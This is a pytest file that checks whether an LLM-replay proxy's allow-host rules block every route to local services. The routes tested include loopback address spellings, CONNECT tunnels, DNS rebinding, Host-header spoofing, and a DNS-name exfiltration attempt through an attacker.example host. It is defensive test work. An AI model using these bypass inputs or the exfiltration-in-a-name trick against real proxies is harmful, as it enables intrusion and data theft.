"""Strict replay cannot be used to reach what it should never touch: every way an attacker (a prompt-injected
agent, a hostile test) might steer a request through `--allow-host` to a local service, sent as raw bytes to
the real proxy. A service on 127.0.0.1 (or ::1) stands for what must stay unreachable; it counts what reaches
it, connections and requests.
The rules themselves, with every address spelling: tests/test_egress.py."""

import contextlib
import json
import socket
import ssl
from collections.abc import Iterator
from pathlib import Path

import pytest

from llmproxy.session import Listening, Session, replaying
from tests.certs import make_test_ca
from tests.conformance.server import LoopbackServer, Reply

ALLOWED = "api.github.com"


@pytest.fixture
def cassette(tmp_path: Path) -> Path:
    path = tmp_path / "empty.json"
    path.write_text(json.dumps({"llmproxy_cassette": 1, "exchanges": []}))
    return path


@pytest.fixture
def service() -> Iterator[LoopbackServer]:
    """The local service: answers 200 "reached" to anything."""
    with LoopbackServer() as server:
        server.queue(*[Reply(200, {"content-type": "text/plain"}, b"reached")] * 20)
        yield server


@contextlib.contextmanager
def strict(tmp_path: Path, cassette: Path, *allowed: str, upstream_ca: Path | None = None) -> Iterator[Session]:
    listening = Listening(ca_directory=tmp_path / "ca", upstream_ca=upstream_ca)
    with replaying(cassette, listening=listening, timing=None, allow_hosts=list(allowed)) as proxy:
        yield proxy


def proxy_port(proxy: Session) -> int:
    return int(proxy.url.rsplit(":", 1)[1])


def exchange(connection: socket.socket, request: bytes) -> bytes:
    connection.sendall(request)
    received = b""
    with contextlib.suppress(OSError):
        while chunk := connection.recv(65536):
            received += chunk
    return received


def get(path: str, host: str) -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()


def tunnel(proxy: Session, target: str) -> socket.socket:
    """A CONNECT tunnel to `target` through the proxy."""
    connection = socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10)
    connection.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        head += connection.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    return connection


def status(response: bytes) -> int:
    return int(response.split(b" ", 2)[1]) if response.startswith(b"HTTP/") else 0


def assert_refused(proxy: Session, response: bytes, service: LoopbackServer) -> None:
    assert service.received == [], "the request reached the local service"
    assert b"reached" not in response
    assert status(response) in (502, 404), response[:300]  # refused, or a miss off the LLM APIs
    assert proxy.misses or proxy.refused, "not counted as a miss"


@pytest.mark.parametrize(
    "target",
    [
        "127.0.0.1",
        "127.1",  # inet_aton shorthand
        "2130706433",  # the same as one number
        "0x7f000001",
        "[::ffff:127.0.0.1]",  # IPv4-mapped IPv6
        "localhost",
        "0.0.0.0",
    ],
)
def test_an_absolute_uri_to_a_local_address_with_the_allowed_host_header(
    tmp_path: Path, cassette: Path, service: LoopbackServer, target: str
) -> None:
    port = service.url.rsplit(":", 1)[1]
    with strict(tmp_path, cassette, ALLOWED) as proxy:
        with socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10) as connection:
            response = exchange(connection, get(f"http://{target}:{port}/secret", ALLOWED))
        assert_refused(proxy, response, service)


def test_connect_to_a_local_port_then_plain_http_for_the_allowed_host(
    tmp_path: Path, cassette: Path, service: LoopbackServer
) -> None:
    with strict(tmp_path, cassette, ALLOWED) as proxy, tunnel(proxy, service.url.removeprefix("http://")) as inner:
        response = exchange(inner, get("/secret", ALLOWED))
        assert_refused(proxy, response, service)


def test_connect_to_a_local_port_then_tls_for_the_allowed_name(tmp_path: Path, cassette: Path) -> None:
    upstream = make_test_ca(tmp_path, (ALLOWED,))  # the local service even has a valid certificate
    with LoopbackServer(tls=upstream.server_context) as service:
        service.queue(*[Reply(200, {"content-type": "text/plain"}, b"reached")] * 5)
        with strict(tmp_path, cassette, ALLOWED, upstream_ca=upstream.cert_path) as proxy:
            address = service.url.removeprefix("https://")
            trusted = ssl.create_default_context(cafile=str(proxy.ca_cert))
            with tunnel(proxy, address) as raw, trusted.wrap_socket(raw, server_hostname=ALLOWED) as inner:
                response = exchange(inner, get("/secret", ALLOWED))
            assert_refused(proxy, response, service)


def test_connect_to_a_local_port_then_raw_bytes_with_nothing_allowed(
    tmp_path: Path, cassette: Path, service: LoopbackServer
) -> None:
    with strict(tmp_path, cassette) as proxy, tunnel(proxy, f"127.0.0.1:{service.port}") as inner:
        exchange(inner, b"SSH-2.0-OpenSSH_9.6\r\n")
    assert service.connections == 0, "a raw TCP connection reached the local service"
    assert proxy.refused


def test_an_absolute_uri_to_ipv6_loopback_with_the_allowed_host_header(tmp_path: Path, cassette: Path) -> None:
    try:
        sentinel = LoopbackServer(host="::1", answer=Reply(hang_up=True))
    except OSError:
        pytest.skip("no IPv6 loopback on this machine")
    with sentinel, strict(tmp_path, cassette, ALLOWED) as proxy:
        with socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10) as connection:
            response = exchange(connection, get(f"http://[::1]:{sentinel.port}/secret", ALLOWED))
        assert sentinel.connections == 0, "the request reached the IPv6 loopback service"
        assert status(response) == 404  # a miss off the LLM APIs: not found
        assert proxy.misses


def test_an_allowed_name_that_resolves_to_loopback(tmp_path: Path, cassette: Path, service: LoopbackServer) -> None:
    port = service.url.rsplit(":", 1)[1]
    with strict(tmp_path, cassette, "localhost") as proxy:
        with socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10) as connection:
            response = exchange(connection, get(f"http://localhost:{port}/secret", f"localhost:{port}"))
        assert_refused(proxy, response, service)
        assert "localhost resolves to 127.0.0.1 (loopback)" in proxy.refused[0]


def test_an_allowed_public_name_whose_dns_answer_is_loopback(
    tmp_path: Path, cassette: Path, service: LoopbackServer
) -> None:
    """DNS rebinding, through the resolver seam: api.github.com answers 127.0.0.1."""
    port = int(service.url.rsplit(":", 1)[1])
    with strict(tmp_path, cassette, ALLOWED) as proxy:
        assert proxy.egress is not None

        async def rebound(host: str, _port: int) -> list[str]:
            return ["127.0.0.1"]

        proxy.egress.resolve = rebound
        with socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10) as connection:
            response = exchange(connection, get(f"http://{ALLOWED}:{port}/secret", f"{ALLOWED}:{port}"))
        assert_refused(proxy, response, service)
        assert f"--allow-host 127.0.0.1:{port}" in proxy.refused[0]  # it says how to allow it on purpose


def test_an_address_named_explicitly_is_reached_with_a_matching_host_only(
    tmp_path: Path, cassette: Path, service: LoopbackServer
) -> None:
    address = service.url.removeprefix("http://")
    with strict(tmp_path, cassette, address) as proxy:
        with socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10) as connection:
            spoofed = exchange(connection, get(f"http://{address}/secret", ALLOWED))
        assert_refused(proxy, spoofed, service)
        with socket.create_connection(("127.0.0.1", proxy_port(proxy)), timeout=10) as connection:
            honest = exchange(connection, get(f"http://{address}/secret", address))
    assert (status(honest), honest.endswith(b"reached")) == (200, True)
    assert [r.path for r in service.received] == ["/secret"]


def test_a_name_no_entry_allows_is_never_even_looked_up(tmp_path: Path, cassette: Path) -> None:
    """A DNS query is a way out too (exfiltration in the name): only allowed names are resolved."""
    looked_up: list[str] = []
    with strict(tmp_path, cassette, ALLOWED) as proxy:
        assert proxy.egress is not None

        async def watched(host: str, _port: int) -> list[str]:
            looked_up.append(host)
            return ["140.82.112.6"]

        proxy.egress.resolve = watched
        with tunnel(proxy, "the-secret-is-42.attacker.example:443") as inner:
            exchange(inner, b"SSH-2.0-OpenSSH_9.6\r\n")
        assert looked_up == []
        assert proxy.refused == ["the-secret-is-42.attacker.example:443: no --allow-host entry names it"]
